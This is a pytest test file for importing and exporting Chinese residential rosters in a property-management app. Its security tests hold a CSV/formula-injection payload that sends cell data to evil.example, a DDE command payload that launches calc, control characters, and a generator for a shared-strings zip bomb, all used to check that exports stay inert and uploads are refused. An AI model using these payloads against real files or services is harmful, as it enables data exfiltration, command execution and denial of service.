"""Chinese rosters: the documented headers and sheet names, the template, an export a Chinese office hands on, and
hostile files (formulas, control characters, a sharedStrings bomb, an over-long CSV field)."""

import io
import logging
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "unit"))
sys.path.insert(0, str(Path(__file__).resolve().parent))
from test_import_headers_doc import doc_headers  # noqa: E402
from test_roster import _xlsx  # noqa: E402

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def upload(client, place):
    def _upload(content, *, dry_run=False, kind=None, name="roster.xlsx"):
        query = {"community_id": place["community_id"], "dry_run": str(dry_run).lower()}
        if kind:
            query["kind"] = kind
        return client.post(
            "/api/v1/imports",
            headers=place["manager"],
            query_string=query,
            data={"file": (io.BytesIO(content), name)},
            content_type="multipart/form-data",
        )

    return _upload


VALUES = {
    "buildings": {"name": "8栋", "zone": "八区"},
    "units": {
        "building": "8栋",
        "number": "8-101",
        "floor": 1,
        "unit_type": "住宅",
        "gross_area_m2": 88.5,
        "inner_area_m2": 70,
    },
    "residents": {
        "building": "8栋",
        "unit": "8-101",
        "name": "吴八",
        "phone": "13800138800",
        "role": "业主",
        "id_number": None,
        "tags": "独居、老人",
        "notes": "备注",
    },
}


@pytest.mark.parametrize("variant", [0, -1], ids=["first-header", "last-alias"])
def test_a_roster_with_the_documented_chinese_sheets_and_headers_imports(client, place, upload, variant):
    sheets = {}
    for row in doc_headers():
        header, values = sheets.setdefault(row["label"], ([], []))
        header.append(row["headers"][variant])
        values.append(VALUES[row["sheet"]][row["column"]])
    assert set(sheets) == {"楼栋", "房屋", "住户"}
    result = upload(_xlsx({name: [header, values] for name, (header, values) in sheets.items()}))
    assert result.status_code == 200, result.json
    assert result.json["buildings"]["created"] == 1 and result.json["units"]["created"] == 1
    assert result.json["residents"]["created"] == 1 and result.json["zones"] == {"created": 1}
    found = client.get("/api/v1/residents", headers=place["manager"], query_string={"q": "13800138800"})
    assert [(r["role"], r["tags"]) for r in found.json["items"]] == [("owner", ["elderly", "living_alone"])]


def test_the_import_template_has_the_documented_sheets_and_headers(client, place, upload):
    response = client.get("/api/v1/imports/template.xlsx", headers=place["manager"])
    assert response.status_code == 200 and response.mimetype == XLSX
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["楼栋", "房屋", "住户", "说明"]
    documented = {}
    for row in doc_headers():
        documented.setdefault(row["label"], []).append(row["headers"][0])
    for name, headers in documented.items():
        assert [c.value for c in book[name][1]] == headers
        assert book[name].freeze_panes == "A2"
    empty = upload(response.data, dry_run=True)
    assert empty.status_code == 200 and empty.json["valid"] is True
    assert client.get("/api/v1/imports/template.xlsx", headers=place["staff"]).status_code == 403


def test_the_export_is_a_chinese_sheet_with_numbers_names_and_text_that_never_runs(
    client, place, register, upload, caplog
):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    register(place, name=hostile, phone="13800138801")
    register(place, name="@SUM(1+1)*cmd|' /C calc'!A0", phone="13800138802", role="family")
    register(place, name="李\x07四\x1b", phone="13800138803", role="tenant")
    caplog.set_level(logging.DEBUG)
    response = client.get(f"/api/v1/communities/{place['community_id']}/roster.xlsx", headers=place["manager"])
    assert response.status_code == 200, response.data[:300]
    assert "李" not in caplog.text and "HYPERLINK" not in caplog.text
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["楼栋", "房屋", "住户"]
    units = book["房屋"]
    assert [c.value for c in units[1]] == ["楼栋", "房号", "楼层", "类型", "建筑面积", "套内面积"]
    unit = [c for c in units[2]]
    assert unit[3].value == "住宅" and isinstance(unit[2].value, int) and isinstance(unit[4].value, float)
    assert unit[4].number_format == "#,##0.00"
    assert units.freeze_panes == "A2" and units.column_dimensions["A"].width >= 8
    people = book["住户"]
    assert [c.value for c in people[1]] == ["楼栋", "房号", "姓名", "手机", "身份", "身份证号", "标签", "备注"]
    by_phone = {row[3].value: row for row in people.iter_rows(min_row=2)}
    formula = by_phone["+8613800138801"][2]
    assert formula.value == hostile and formula.data_type == "s"  # text, not a formula
    assert by_phone["+8613800138802"][2].data_type == "s" and by_phone["+8613800138802"][4].value == "家属"
    assert by_phone["+8613800138803"][2].value == "李四" and by_phone["+8613800138803"][4].value == "租户"
    # The raw sheet holds no formula element at all.
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        assert all(b"<f>" not in archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    # And the export, Chinese as it is, imports back unchanged.
    again = upload(response.data)
    assert again.status_code == 200, again.json
    assert again.json["units"]["created"] == 0 and again.json["residents"]["created"] == 0


def _bomb(unpacked: int) -> bytes:
    """A valid workbook whose sharedStrings part unpacks to `unpacked` bytes of one repeated string."""
    base = _xlsx({"住户": [["楼栋", "房号", "姓名", "手机", "身份"], ["1栋", "1-101", "x", "13800138000", "业主"]]})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info.filename))
        with target.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            head = b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            part.write(head)
            chunk = b"<si><t>" + b"A" * 1000 + b"</t></si>"
            for _ in range(unpacked // len(chunk)):
                part.write(chunk)
            part.write(b"</sst>")
    return out.getvalue()


def test_a_shared_strings_bomb_is_refused_before_it_is_parsed(upload, count):
    content = _bomb(100 * 1024 * 1024)
    assert len(content) < 1024 * 1024
    response = upload(content, dry_run=True)
    assert response.status_code == 413 and response.mimetype == "application/problem+json"
    assert "file" in response.json["errors"]


def test_an_over_long_cell_or_csv_field_is_a_422_naming_the_file(upload):
    field = "x" * (128 * 1024 + 1)
    csv = f"楼栋,房号,楼层,建筑面积\n5栋,{field},1,66.60\n".encode()
    response = upload(csv, kind="units", name="units.csv")
    assert response.status_code == 422 and "file" in response.json["errors"]
    assert "row 2" in response.json["errors"]["file"][0]
    cell = _xlsx({"房屋": [["楼栋", "房号", "楼层", "建筑面积"], ["5栋", "y" * 5000, 1, "66.60"]]})
    response = upload(cell, dry_run=True)
    assert response.status_code == 422 and "file" in response.json["errors"]
    assert "房屋 row 2" in response.json["errors"]["file"][0]
